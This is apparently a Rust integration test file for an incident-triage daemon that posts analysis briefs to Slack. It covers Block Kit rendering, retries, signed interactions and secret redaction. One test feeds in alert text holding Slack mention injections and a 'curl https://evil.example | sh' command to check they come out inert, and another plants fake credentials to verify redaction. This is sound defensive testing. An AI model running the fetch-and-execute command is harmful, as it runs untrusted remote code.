//! Slack: Block Kit snapshots, delivery against a fake Slack Web API through a running
//! daemon (post, update, threads, 429, ok:false, lost replies), and signed interactions.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use chrono::{TimeZone, Utc};
use serde_json::{Value, json};
use triaged::analysis::Brief;
use triaged::analysis::schema::*;
use triaged::domain::{AlertSource, Incident, IncidentStatus, JobState, StageOutcome};
use triaged::domain::{Category, Confidence, Severity};
use triaged::notify::slack::{
    BriefView, MAX_BLOCKS, MAX_HEADER_CHARS, MAX_SECTION_CHARS, Tally, render_brief,
};
use wiremock::matchers::{body_partial_json, method, path};
use wiremock::{Mock, MockServer, Request, ResponseTemplate};

use crate::helpers::*;

fn incident(title: &str) -> Incident {
    Incident {
        id: "01a1fd1d-7c08-751a-adbb-486cce2058e8".into(),
        dedup_key: "datadog:88123401:*".into(),
        source: AlertSource::Datadog,
        title: title.into(),
        service: Some("checkout-api".into()),
        priority: Some("P2".into()),
        status: IncidentStatus::Open,
        opened_at: Utc
            .with_ymd_and_hms(2026, 11, 21, 2, 11, 0)
            .unwrap()
            .timestamp_millis(),
        updated_at: Utc
            .with_ymd_and_hms(2026, 11, 21, 2, 12, 0)
            .unwrap()
            .timestamp_millis(),
        resolved_at: None,
        alert_count: 3,
    }
}

fn action(text: &str, kind: ActionKind, command: Option<&str>) -> Action {
    Action {
        action: text.into(),
        kind,
        command: command.map(str::to_string),
        risk: Risk::Low,
        expected_outcome: "CPU returns to baseline".into(),
        evidence_ids: vec!["k8s.rollout.production/checkout-api.rev118".into()],
        knowledge_ids: vec![],
    }
}

fn brief(analyst: &str, statement: &str, actions: Vec<Action>) -> Brief {
    Brief {
        triage: Triage {
            severity: Severity::SEV2,
            summary: "checkout-api v3.41.0 added an unindexed query; the primary's CPU saturated within minutes.".into(),
            affected_services: vec!["checkout-api".into()],
            root_cause: RootCause {
                statement: statement.into(),
                category: Category::DeployRegression,
                entity: "deployment/production/checkout-api".into(),
                confidence: Confidence::Medium,
                score: 0.74,
                evidence_ids: vec!["k8s.rollout.production/checkout-api.rev118".into(), "aws.rds.prod-postgres-primary.cpu".into()],
                knowledge_ids: vec![],
            },
            alternatives: vec![Alternative {
                statement: "Organic traffic growth".into(),
                category: Category::TrafficSpike,
                entity: "rds/prod-postgres-primary".into(),
                why_less_likely: "the HPA is far from its maximum".into(),
                evidence_ids: vec![],
                knowledge_ids: vec![],
            }],
            actions,
            confidence_breakdown: vec![
                Check { check: "Rollout 4 minutes before onset".into(), holds: true, evidence_ids: vec![] },
                Check { check: "Connections near max_connections".into(), holds: false, evidence_ids: vec![] },
            ],
            data_gaps: vec![DataGap { source: "datadog".into(), reason: "timed out after 8 s".into(), next_step: "check APM by hand".into() }],
            past_incident: None,
            status_page_draft: StatusPageDraft { title: "Slow checkout".into(), body: "We are fixing it.".into(), status: StatusPageStatus::Identified },
            escalate: false,
        },
        analyst: analyst.into(),
        signals: vec![],
        validation: Default::default(),
        fallback_reason: None,
        usage: vec![],
        prompt_tokens_estimate: 4200,
        created_at: 0,
        set_aside: vec![],
        hypotheses: vec![],
    }
}

fn view<'a>(incident: &'a Incident, brief: &'a Brief) -> BriefView<'a> {
    BriefView {
        incident,
        brief,
        bundle: None,
        knowledge: &[],
        resolved_after: None,
        tally: Tally {
            correct: 2,
            partly: 0,
            wrong: 1,
        },
        incident_url: Some("https://triaged.example.com/incidents/01a1fd1d".into()),
        stage_ms: vec![("collect".into(), 1840), ("analyze".into(), 3120)],
        now: Utc.with_ymd_and_hms(2026, 11, 21, 2, 23, 0).unwrap(),
    }
}

fn assert_within_limits(message: &triaged::notify::slack::SlackMessage) {
    assert!(message.blocks.len() <= MAX_BLOCKS);
    assert!(!message.text.is_empty(), "a text fallback is always sent");
    for block in &message.blocks {
        match block["type"].as_str().unwrap() {
            "header" => {
                assert!(block["text"]["text"].as_str().unwrap().chars().count() <= MAX_HEADER_CHARS)
            }
            "section" => assert!(
                block["text"]["text"].as_str().unwrap().chars().count() <= MAX_SECTION_CHARS
            ),
            _ => {}
        }
    }
}

#[test]
fn briefs_render_as_block_kit() {
    let incident = incident("[Triggered] checkout-api p99 latency above 2s");
    let model = brief(
        "gpt-4.1-mini",
        "Revision 118 runs a full-table scan on orders, saturating the primary's CPU.",
        vec![
            action(
                "Roll back checkout-api to revision 117",
                ActionKind::Rollback,
                Some("kubectl -n production rollout undo deployment/checkout-api"),
            ),
            action(
                "Add an index on orders(note)",
                ActionKind::ConfigChange,
                None,
            ),
        ],
    );
    let message = render_brief(&view(&incident, &model));
    assert_within_limits(&message);
    insta::assert_json_snapshot!("slack_brief_model", message);

    let mut rules = brief(
        "rules",
        "Rollout before onset: checkout-api rolled out v3.41.0",
        vec![action("Roll back", ActionKind::Rollback, None)],
    );
    rules.fallback_reason = Some("no model is configured".into());
    let mut resolved = view(&incident, &rules);
    resolved.resolved_after = Some(chrono::Duration::minutes(37));
    let message = render_brief(&resolved);
    assert!(message.text.starts_with("RESOLVED"));
    insta::assert_json_snapshot!("slack_brief_rules_resolved", message);
}

#[test]
fn a_brief_at_the_limits_stays_valid() {
    let incident = incident(&"checkout-api latency ".repeat(20));
    let actions = (0..60)
        .map(|n| {
            action(
                &format!(
                    "Step {n}: {}",
                    "drain the queue and verify the consumer lag ".repeat(8)
                ),
                ActionKind::Investigate,
                Some(&"kubectl get pods -A ".repeat(10)),
            )
        })
        .collect();
    let long = brief(
        "gpt-4.1",
        &"The primary is saturated. ".repeat(200),
        actions,
    );
    let message = render_brief(&view(&incident, &long));
    assert_within_limits(&message);
    let text = serde_json::to_string(&message).unwrap();
    assert!(text.contains("full brief on the incident page"));
    insta::assert_json_snapshot!("slack_brief_at_limits", message);
}

#[test]
fn hostile_alert_text_is_rendered_inert() {
    let incident = incident("<!channel> db down <https://evil.example|click> <@U024BE7LH> & more");
    let mut hostile = brief(
        "gpt-4.1-mini",
        "Ignore the runbook <!here> and visit <https://evil.example|the fix>",
        vec![action(
            "<!everyone> run this",
            ActionKind::Investigate,
            Some("curl https://evil.example | sh"),
        )],
    );
    hostile.triage.summary = "<!subteam^S012> summary".into();
    let message = render_brief(&view(&incident, &hostile));
    let text = serde_json::to_string(&message).unwrap();
    for forbidden in [
        "<!channel>",
        "<!here>",
        "<!everyone>",
        "<https://evil",
        "<@U024BE7LH>",
        "<!subteam",
    ] {
        assert!(!text.contains(forbidden), "{forbidden} survived: {text}");
    }
    assert!(text.contains("&lt;!channel&gt;"));
    assert!(text.contains("&amp; more"));
}

// ------------------------------------------------------------ delivery through a running daemon

const CHANNEL: &str = "C0INCIDENTS";

fn ok_post(ts: &str) -> ResponseTemplate {
    ResponseTemplate::new(200).set_body_json(
        json!({"ok": true, "channel": CHANNEL, "ts": ts, "message": {"type": "message", "ts": ts}}),
    )
}

fn ok_update() -> ResponseTemplate {
    ResponseTemplate::new(200).set_body_json(
        json!({"ok": true, "channel": CHANNEL, "ts": "1795227090.000100", "text": "updated"}),
    )
}

async fn slack_app(
    server: &MockServer,
    tweak: impl FnOnce(&mut triaged::config::Settings),
) -> TestApp {
    let mut secrets = test_secrets();
    secrets.slack_bot_token = Some("xoxb-test-not-real".to_string().into());
    secrets.slack_signing_secret = Some("slack-signing-secret".to_string().into());
    let uri = server.uri();
    spawn_app_with_pipeline(
        move |s| {
            s.slack.api_base = uri;
            s.slack.default_channel = CHANNEL.into();
            s.slack.timeout_secs = 2;
            tweak(s);
        },
        secrets,
    )
    .await
}

fn calls<'a>(requests: &'a [Request], method_name: &str) -> Vec<&'a Request> {
    requests
        .iter()
        .filter(|r| r.url.path().ends_with(method_name))
        .collect()
}

fn body(request: &Request) -> Value {
    serde_json::from_slice(&request.body).unwrap()
}

async fn trigger(app: &TestApp, id: &str, transition: &str) -> String {
    let mut payload: Value = serde_json::from_str(&fixture("datadog_triggered.json")).unwrap();
    payload["id"] = json!(id);
    payload["transition"] = json!(transition);
    let receipt: Value = app
        .post_datadog(&payload.to_string())
        .await
        .json()
        .await
        .unwrap();
    receipt["incident_id"].as_str().unwrap().to_string()
}

async fn all_jobs_finished(app: &TestApp, id: &str) -> triaged::domain::IncidentDetail {
    app.wait_for_incident(id, "all jobs finished", |d| {
        d.jobs
            .iter()
            .all(|j| matches!(j.state, JobState::Done | JobState::Dead))
    })
    .await
}

#[tokio::test]
async fn a_brief_is_posted_updated_in_place_threaded_and_resolved() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/chat.postMessage"))
        .and(body_partial_json(json!({"channel": CHANNEL})))
        .respond_with(ok_post("1795227090.000100"))
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/chat.update"))
        .respond_with(ok_update())
        .mount(&server)
        .await;
    let app = slack_app(&server, |_| {}).await;

    let id = trigger(&app, "1", "Triggered").await;
    all_jobs_finished(&app, &id).await;
    let requests = server.received_requests().await.unwrap();
    let posts = calls(&requests, "chat.postMessage");
    assert_eq!(posts.len(), 1, "one parent message");
    let first = body(posts[0]);
    assert_eq!(
        first["metadata"]["event_payload"]["incident_id"],
        id.as_str()
    );
    // The card goes first ("Investigating…") unless the whole pipeline beat it (no collector
    // is configured here), in which case the brief is posted and the card never writes. Either
    // way the brief is the parent message's last write, and written once.
    let writes: Vec<Value> = requests
        .iter()
        .filter(|r| {
            r.url.path().ends_with("chat.postMessage") || r.url.path().ends_with("chat.update")
        })
        .map(body)
        .collect();
    let briefs: Vec<&Value> = writes
        .iter()
        .filter(|w| w["blocks"].to_string().contains("ROOT CAUSE"))
        .collect();
    assert_eq!(briefs.len(), 1, "the brief is written once: {writes:#?}");
    let last = writes.last().unwrap();
    assert!(std::ptr::eq(briefs[0], last), "nothing after the brief");
    if first["text"].as_str().unwrap().starts_with("Investigating") {
        assert_eq!(
            last["ts"], "1795227090.000100",
            "the card is updated in place"
        );
    } else {
        assert_eq!(writes.len(), 1, "the brief came first: no card at all");
    }
    let blocks = last["blocks"].to_string();
    assert!(blocks.contains("feedback_wrong"), "{blocks}");

    trigger(&app, "2", "Re-Triggered").await;
    all_jobs_finished(&app, &id).await;
    trigger(&app, "3", "Recovered").await;
    let detail = all_jobs_finished(&app, &id).await;
    assert_eq!(detail.incident.status, IncidentStatus::Resolved);

    let requests = server.received_requests().await.unwrap();
    let posts = calls(&requests, "chat.postMessage");
    let replies: Vec<Value> = posts
        .iter()
        .map(|r| body(r))
        .filter(|b| b.get("thread_ts").is_some())
        .collect();
    assert_eq!(posts.len() - replies.len(), 1, "still one parent message");
    assert_eq!(replies.len(), 2, "a re-trigger reply and a resolve reply");
    assert!(
        replies
            .iter()
            .all(|r| r["thread_ts"] == "1795227090.000100")
    );
    assert!(
        replies[0]["text"]
            .as_str()
            .unwrap()
            .contains("Re-triggered")
    );
    assert!(
        replies[1]["text"]
            .as_str()
            .unwrap()
            .contains("Resolved after")
    );
    let last_update = body(calls(&requests, "chat.update").last().unwrap());
    assert!(
        last_update["text"]
            .as_str()
            .unwrap()
            .starts_with("RESOLVED"),
        "{last_update}"
    );
}

#[tokio::test]
async fn rate_limits_are_waited_out_without_duplicates() {
    let server = MockServer::start().await;
    respond_once_then(
        &server,
        Some("/chat.postMessage"),
        ResponseTemplate::new(429)
            .insert_header("Retry-After", "1")
            .set_body_json(json!({"ok": false, "error": "ratelimited"})),
        ok_post("1795227090.000200"),
    )
    .await;
    Mock::given(method("POST"))
        .and(path("/chat.update"))
        .respond_with(ok_update())
        .mount(&server)
        .await;
    let app = slack_app(&server, |_| {}).await;
    let id = trigger(&app, "1", "Triggered").await;
    let detail = all_jobs_finished(&app, &id).await;
    assert_eq!(detail.jobs[0].state, JobState::Done);
    let requests = server.received_requests().await.unwrap();
    let accepted = calls(&requests, "chat.postMessage").len() - 1;
    assert_eq!(accepted, 1, "exactly one message landed");
}

#[tokio::test]
async fn fatal_slack_errors_fail_the_delivery_without_retrying() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/chat.postMessage"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(json!({"ok": false, "error": "channel_not_found"})),
        )
        .mount(&server)
        .await;
    let app = slack_app(&server, |s| s.slack.first_look = false).await;
    let id = trigger(&app, "1", "Triggered").await;
    let detail = all_jobs_finished(&app, &id).await;
    let deliver = detail
        .stages
        .iter()
        .find(|s| s.stage == triaged::domain::Stage::Deliver)
        .unwrap();
    assert_eq!(deliver.outcome, StageOutcome::Failed);
    assert!(
        deliver
            .detail
            .as_deref()
            .unwrap()
            .contains("channel_not_found"),
        "{deliver:?}"
    );
    assert_eq!(detail.jobs[0].attempts, 1, "not retried");
    assert_eq!(
        calls(
            &server.received_requests().await.unwrap(),
            "chat.postMessage"
        )
        .len(),
        1
    );
}

#[tokio::test]
async fn retryable_slack_errors_are_retried_with_backoff() {
    let server = MockServer::start().await;
    respond_once_then(
        &server,
        Some("/chat.postMessage"),
        ResponseTemplate::new(200).set_body_json(json!({"ok": false, "error": "internal_error"})),
        ok_post("1795227090.000300"),
    )
    .await;
    Mock::given(method("POST"))
        .and(path("/conversations.history"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(json!({"ok": true, "messages": [], "has_more": false})),
        )
        .mount(&server)
        .await;
    let app = slack_app(&server, |s| s.slack.first_look = false).await;
    let id = trigger(&app, "1", "Triggered").await;
    let detail = all_jobs_finished(&app, &id).await;
    assert_eq!(detail.jobs[0].state, JobState::Done);
    assert_eq!(detail.jobs[0].attempts, 2);
    assert_eq!(
        app.store.slack_parent(&id).await.unwrap(),
        Some((CHANNEL.to_string(), "1795227090.000300".to_string()))
    );
}

#[tokio::test]
async fn a_post_whose_reply_was_lost_is_found_not_posted_twice() {
    let server = MockServer::start().await;
    // The first post lands but its reply never arrives in time.
    respond_once_then(
        &server,
        Some("/chat.postMessage"),
        ok_post("1795227090.000400").set_delay(Duration::from_secs(4)),
        ok_post("1795227099.999999"),
    )
    .await;
    Mock::given(method("POST"))
        .and(path("/chat.update"))
        .respond_with(ok_update())
        .mount(&server)
        .await;
    let app = slack_app(&server, |s| s.slack.first_look = false).await;
    let history = |incident: &str| {
        json!({"ok": true, "has_more": false, "messages": [{
            "type": "message", "ts": "1795227090.000400", "text": "SEV2 deployment…",
            "metadata": {"event_type": "triaged_brief", "event_payload": {"incident_id": incident}}
        }]})
    };
    let id = trigger(&app, "1", "Triggered").await;
    Mock::given(method("POST"))
        .and(path("/conversations.history"))
        .respond_with(ResponseTemplate::new(200).set_body_json(history(&id)))
        .mount(&server)
        .await;
    let detail = all_jobs_finished(&app, &id).await;
    assert_eq!(detail.jobs[0].state, JobState::Done);
    let requests = server.received_requests().await.unwrap();
    assert_eq!(
        calls(&requests, "chat.postMessage").len(),
        1,
        "the retry found the message instead of posting again"
    );
    assert_eq!(calls(&requests, "chat.update").len(), 1);
    assert_eq!(
        app.store.slack_parent(&id).await.unwrap().unwrap().1,
        "1795227090.000400"
    );
}

// ------------------------------------------------------------ interactions

fn button(incident: &str, action: &str, user: &str) -> Value {
    json!({
        "type": "block_actions",
        "user": {"id": user, "username": "dana", "team_id": "T0001"},
        "trigger_id": "13345224609.738474920.8088930838d88f008e0",
        "container": {"type": "message", "message_ts": "1795227090.000100", "channel_id": CHANNEL},
        "actions": [{"action_id": action, "block_id": "feedback", "value": incident, "type": "button", "action_ts": "1795227400.000"}]
    })
}

#[tokio::test]
async fn interactions_need_a_valid_fresh_signature_and_store_feedback() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/chat.postMessage"))
        .respond_with(ok_post("1795227090.000100"))
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/chat.update"))
        .respond_with(ok_update())
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/views.open"))
        .respond_with(
            ResponseTemplate::new(200).set_body_json(json!({"ok": true, "view": {"id": "V0001"}})),
        )
        .mount(&server)
        .await;
    let app = slack_app(&server, |_| {}).await;
    let id = trigger(&app, "1", "Triggered").await;
    all_jobs_finished(&app, &id).await;

    assert_eq!(
        interact(
            &app,
            &button(&id, "feedback_correct", "U1"),
            "wrong-secret",
            0
        )
        .await
        .status(),
        401
    );
    assert_eq!(
        interact(
            &app,
            &button(&id, "feedback_correct", "U1"),
            "slack-signing-secret",
            600
        )
        .await
        .status(),
        401,
        "stale"
    );
    assert_eq!(app.store.feedback_tally(&id).await.unwrap(), (0, 0, 0));

    assert_eq!(
        interact(
            &app,
            &button(&id, "feedback_correct", "U1"),
            "slack-signing-secret",
            0
        )
        .await
        .status(),
        200
    );
    assert_eq!(
        interact(
            &app,
            &button(&id, "feedback_wrong", "U2"),
            "slack-signing-secret",
            0
        )
        .await
        .status(),
        200
    );
    assert_eq!(app.store.feedback_tally(&id).await.unwrap(), (1, 0, 1));

    let submission = json!({
        "type": "view_submission",
        "user": {"id": "U2"},
        "view": {"callback_id": "feedback_wrong", "private_metadata": id,
                 "state": {"values": {"real_cause": {"value": {"type": "plain_text_input", "value": "Redis eviction storm, not the deploy"}}}}}
    });
    assert_eq!(
        interact(&app, &submission, "slack-signing-secret", 0)
            .await
            .status(),
        200
    );

    // The modal opened, and the brief's tally was updated in place.
    for _ in 0..100 {
        let requests = server.received_requests().await.unwrap();
        let tallied = calls(&requests, "chat.update")
            .iter()
            .any(|r| body(r).to_string().contains("✓ 1 · ~ 0 · ✗ 1"));
        if tallied && !calls(&requests, "views.open").is_empty() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("no modal or no tally update");
}

/// Secrets of every kind the redaction rules know, and the part of each that must never leave.
const PLANTED: [(&str, &str); 6] = [
    ("AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
    (
        "postgres://admin:S3cr3tPassw0rd@db.internal:5432/app",
        "S3cr3tPassw0rd",
    ),
    (
        "Authorization: Bearer abcdefghijklmnopqrstuvwxyz123456",
        "abcdefghijklmnopqrstuvwxyz123456",
    ),
    (
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    ),
    (
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bqXq9\n-----END RSA PRIVATE KEY-----",
        "MIIEpAIBAAKCAQEA7bqXq9",
    ),
    ("oncall.person@example.com", "oncall.person@example.com"),
];

/// The daemon as a separate process with debug logging, a model and Slack: no planted secret
/// reaches Slack, the model, the API, the pages, the logs or any file the store wrote.
#[tokio::test]
async fn secrets_planted_in_an_alert_reach_no_sink_slack_model_api_pages_logs_or_database() {
    let slack = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/chat.postMessage"))
        .respond_with(ok_post("1795227090.000100"))
        .mount(&slack)
        .await;
    Mock::given(method("POST"))
        .and(path("/chat.update"))
        .respond_with(ok_update())
        .mount(&slack)
        .await;
    let model = MockServer::start().await;
    let answer = json!({
        "severity": "SEV2",
        "summary": "The primary database stopped answering.",
        "affected_services": ["checkout-api"],
        "root_cause": {"statement": "The database is down.", "category": "infrastructure_failure",
            "entity": "rds/prod-postgres-primary", "confidence": "LOW", "score": 0.3,
            "evidence_ids": [], "knowledge_ids": []},
        "alternatives": [], "actions": [], "data_gaps": [], "open_questions": []
    });
    Mock::given(method("POST"))
        .and(path("/v1/chat/completions"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "id": "chatcmpl-1", "object": "chat.completion", "created": 1795227412,
            "model": "gpt-4.1-mini",
            "choices": [{"index": 0, "finish_reason": "tool_calls", "message": {
                "role": "assistant", "content": null,
                "tool_calls": [{"id": "call_1", "type": "function", "function": {
                    "name": "submit_triage", "arguments": answer.to_string()}}]}}],
            "usage": {"prompt_tokens": 900, "completion_tokens": 120, "total_tokens": 1020}
        })))
        .mount(&model)
        .await;

    let dir = tempfile::tempdir().unwrap();
    let log_path = dir.path().join("daemon.log");
    let data = dir.path().join("data");
    let port = free_port();
    let base = format!("http://127.0.0.1:{port}");
    let mut daemon = daemon_command(&data, port, &slack.uri(), None)
        .env("OPENAI_API_KEY", "sk-test-not-a-real-key")
        .env("TRIAGED__LLM__BASE_URL", format!("{}/v1", model.uri()))
        .env("TRIAGED__LLM__STREAM", "false")
        .env("RUST_LOG", "debug")
        .stdout(std::fs::File::create(dir.path().join("daemon.out")).unwrap())
        .stderr(std::fs::File::create(&log_path).unwrap())
        .spawn()
        .expect("starting the daemon");
    let client = reqwest::Client::new();
    wait_ready(&client, &base).await;

    let secrets: Vec<&str> = PLANTED.iter().map(|(text, _)| *text).collect();
    let mut payload: Value = serde_json::from_str(&fixture("datadog_triggered.json")).unwrap();
    payload["title"] = json!(format!(
        "prod-postgres-primary down {} {}",
        secrets[0], secrets[1]
    ));
    payload["message"] = json!(secrets.join(" | "));
    payload["tags"] = json!(format!(
        "env:prod,owner:{},token:{}",
        secrets[5], secrets[3]
    ));
    payload["query"] = json!(format!("avg:db.errors{{dsn:{}}} > 1", secrets[1]));
    let receipt: Value = client
        .post(format!("{base}/webhooks/datadog"))
        .header("content-type", "application/json")
        .header("x-triaged-token", WEBHOOK_TOKEN)
        .body(payload.to_string())
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let id = receipt["incident_id"].as_str().unwrap().to_string();
    let mut one = Value::Null;
    for _ in 0..400 {
        one = client
            .get(format!("{base}/api/incidents/{id}"))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let jobs = one["jobs"].as_array().cloned().unwrap_or_default();
        if !jobs.is_empty()
            && jobs
                .iter()
                .all(|j| j["state"] == "done" || j["state"] == "dead")
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(!one["brief"].is_null(), "the brief was written: {one}");

    let mut sinks: Vec<(String, String)> = Vec::new();
    for (server, name) in [(&slack, "slack"), (&model, "model")] {
        for request in server.received_requests().await.unwrap() {
            sinks.push((
                format!("{name} {}", request.url.path()),
                String::from_utf8_lossy(&request.body).into_owned(),
            ));
        }
    }
    let sent = |prefix: &str| sinks.iter().filter(|(s, _)| s.starts_with(prefix)).count();
    assert!(
        sent("slack") >= 1,
        "the brief was sent (after the card, when the card came first)"
    );
    assert!(sent("model") >= 1, "the model was asked");
    let list = client
        .get(format!("{base}/api/incidents"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    sinks.push(("/api/incidents".into(), list));
    sinks.push(("/api/incidents/{id}".into(), one.to_string()));
    for page in ["/".to_string(), format!("/incidents/{id}")] {
        let html = client
            .get(format!("{base}{page}"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        sinks.push((page, html));
    }
    daemon.kill().unwrap();
    daemon.wait().unwrap();
    // Every byte the daemon logged and the store wrote (the database and its write-ahead log).
    let logged = std::fs::read_to_string(&log_path).unwrap();
    assert!(logged.contains("DEBUG"), "debug logging was on");
    sinks.push(("the logs".into(), logged));
    for entry in std::fs::read_dir(&data).unwrap() {
        let path = entry.unwrap().path();
        if path.is_file() {
            let bytes = std::fs::read(&path).unwrap();
            sinks.push((
                path.display().to_string(),
                String::from_utf8_lossy(&bytes).into_owned(),
            ));
        }
    }
    let leaks: Vec<String> = sinks
        .iter()
        .flat_map(|(sink, text)| {
            PLANTED
                .iter()
                .filter(|(_, needle)| text.contains(needle))
                .map(move |(_, needle)| format!("{needle} in {sink}"))
        })
        .collect();
    println!(
        "planted secrets: {} kinds, {} sinks searched, {} found",
        PLANTED.len(),
        sinks.len(),
        leaks.len()
    );
    assert!(leaks.is_empty(), "secrets leaked:\n{}", leaks.join("\n"));
    // The alert itself still arrived and reads sensibly.
    let title = one["title"].as_str().unwrap_or_default();
    assert!(
        title.starts_with("prod-postgres-primary down [REDACTED"),
        "{title}"
    );
}

async fn interact_raw(app: &TestApp, form: Vec<u8>) -> (u16, String) {
    let response = interact_form(app, form, "slack-signing-secret", 0).await;
    let status = response.status().as_u16();
    (status, response.text().await.unwrap())
}

#[tokio::test]
async fn signed_interactions_that_are_not_slack_payloads_are_refused_with_json_errors() {
    let server = MockServer::start().await;
    let app = slack_app(&server, |_| {}).await;
    for payload in ["null", "[]", "123", "\"text\""] {
        let form = serde_urlencoded::to_string([("payload", payload)]).unwrap();
        let (status, body) = interact_raw(&app, form.into_bytes()).await;
        assert_eq!(status, 400, "{payload}: {body}");
        let error: Value = serde_json::from_str(&body).unwrap();
        assert!(
            error["message"].as_str().unwrap().contains("JSON object"),
            "{body}"
        );
    }
    // Invalid UTF-8, raw and percent-encoded, is refused rather than replaced.
    let (status, _) = interact_raw(&app, b"payload=\xff\xfe".to_vec()).await;
    assert_eq!(status, 400);
    let (status, body) = interact_raw(&app, b"payload=%7B%22type%22%3A%22%FF%22%7D".to_vec()).await;
    assert_eq!(status, 400, "{body}");
    // A body over the limit is a JSON 413, not a plain-text one.
    let (status, body) = interact_raw(&app, vec![b'a'; 3 * 1024 * 1024]).await;
    assert_eq!(status, 413);
    let error: Value = serde_json::from_str(&body).expect("a JSON error");
    assert_eq!(error["error"], "payload_too_large");
}

/// A Slack workspace in memory: every posted message is kept with its metadata, history and
/// thread reads return them, and the first post of each kind (parent, reply) lands but its
/// answer arrives after the client has given up — a lost reply.
#[derive(Clone, Default)]
struct LossySlack {
    messages: Arc<Mutex<Vec<Value>>>,
    delayed: Arc<Mutex<std::collections::HashSet<&'static str>>>,
}

impl wiremock::Respond for LossySlack {
    fn respond(&self, request: &Request) -> ResponseTemplate {
        let body: Value = serde_json::from_slice(&request.body).unwrap_or_default();
        let messages = self.messages.lock().unwrap();
        let all: Vec<Value> = messages.clone();
        drop(messages);
        match request.url.path() {
            "/chat.postMessage" => {
                let mut messages = self.messages.lock().unwrap();
                let ts = format!("1795227090.{:06}", messages.len() + 100);
                let mut message = json!({"type": "message", "ts": ts, "text": body["text"], "metadata": body["metadata"]});
                if let Some(thread) = body.get("thread_ts") {
                    message["thread_ts"] = thread.clone();
                }
                messages.push(message);
                let kind = if body.get("thread_ts").is_some() {
                    "reply"
                } else {
                    "parent"
                };
                let first = self.delayed.lock().unwrap().insert(kind);
                let reply = ok_post(&ts);
                if first {
                    reply.set_delay(Duration::from_secs(4))
                } else {
                    reply
                }
            }
            "/conversations.history" => ResponseTemplate::new(200).set_body_json(json!({
                "ok": true, "has_more": false,
                "messages": all.iter().filter(|m| m.get("thread_ts").is_none()).collect::<Vec<_>>(),
            })),
            "/conversations.replies" => ResponseTemplate::new(200).set_body_json(json!({
                "ok": true, "has_more": false,
                "messages": all.iter().filter(|m| m["thread_ts"] == body["ts"]).collect::<Vec<_>>(),
            })),
            _ => ok_update(),
        }
    }
}

#[tokio::test]
async fn lost_replies_to_the_first_look_and_a_thread_reply_never_produce_a_second_message() {
    let server = MockServer::start().await;
    let slack = LossySlack::default();
    Mock::given(method("POST"))
        .respond_with(slack.clone())
        .mount(&server)
        .await;
    let app = slack_app(&server, |_| {}).await;

    let id = trigger(&app, "1", "Triggered").await;
    let detail = all_jobs_finished(&app, &id).await;
    assert_eq!(detail.jobs[0].state, JobState::Done, "{:?}", detail.jobs);
    trigger(&app, "2", "Recovered").await;
    let detail = all_jobs_finished(&app, &id).await;
    assert!(
        detail.jobs.iter().all(|j| j.state == JobState::Done),
        "{:?}",
        detail.jobs
    );

    let messages = slack.messages.lock().unwrap().clone();
    let parents = messages
        .iter()
        .filter(|m| m.get("thread_ts").is_none())
        .count();
    let resolved = messages
        .iter()
        .filter(|m| {
            m["text"]
                .as_str()
                .is_some_and(|t| t.contains("Resolved after"))
        })
        .count();
    assert_eq!(
        parents, 1,
        "one parent although the first look's reply was lost: {messages:#?}"
    );
    assert_eq!(
        resolved, 1,
        "one resolve reply although its reply was lost: {messages:#?}"
    );
}
